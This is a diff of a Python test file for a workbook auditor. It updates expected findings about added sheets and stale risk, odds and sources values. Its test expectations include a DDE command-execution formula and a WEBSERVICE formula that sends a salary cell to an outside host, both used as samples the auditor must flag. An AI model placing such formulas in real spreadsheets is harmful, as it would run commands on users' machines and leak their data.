@@ -390,7 +390,7 @@ def test_an_added_sheet_and_its_formulas_are_reported(fresh, tmp_path):
     assert code == 1
     assert lines[1:] == [
         "  Notes: a sheet the generator does not write; allowed: Guide, Inputs, Programs, "
-        "Summary, Risk, Odds, Cash flows, Loans, Sources",
+        "Roles, Summary, Risk, Odds, Cash flows, Loans, Sources",
         "  Notes!A1: a formula where the generator writes none: =cmd|' /C calc'!A0",
         '  Notes!A2: a formula where the generator writes none: '
         '=WEBSERVICE("http://example.com/?"&Salary)']
@@ -468,14 +468,17 @@ def test_an_input_edited_leaves_the_risk_and_sources_sheets_stale_and_says_so(fr
     sheet, ref = program("tuition_per_year")
     path = edited(fresh, tmp_path / "t.xlsx", **{sheet: {ref: 60_000}})
     findings = audit(path).findings
-    # and the odds written for the first option (its median payback never happens either way)
+    # and the six odds written for the first option (chance, NPV, median payback, expected NPV,
+    # P10, P90), counted in one finding
     from mlworth_xl.workbook import odds_sheet
 
-    written = [odds_sheet.scalar(0, k).replace("$", "") for k in (
-        "written_chance", "written_npv", "written_expected", "written_p10", "written_p90")]
-    assert [f.cell for f in findings] == ["Risk", *written, "Sources"]
-    assert findings[0].message.startswith("48 values differ from a simulation of this "
-                                          "workbook's inputs with the draws and seed of its stamp")
+    first = odds_sheet.scalar(0, "written_chance").replace("$", "")
+    assert [f.cell for f in findings] == ["Risk", "Odds", "Sources"]
+    assert findings[1].message.startswith("6 values differ from the odds the model gives this "
+                                          "workbook's inputs") and f"(first {first}:" in (
+        findings[1].message)
+    assert " values differ from a simulation of this workbook's inputs with the draws and seed " \
+        "of its stamp" in findings[0].message
     assert " values differ from the sources of this workbook's inputs (first Sources!A10: " in (
         findings[-1].message)
     assert all(f.message.endswith("run `mlworth-xl workbook` again to refresh it")
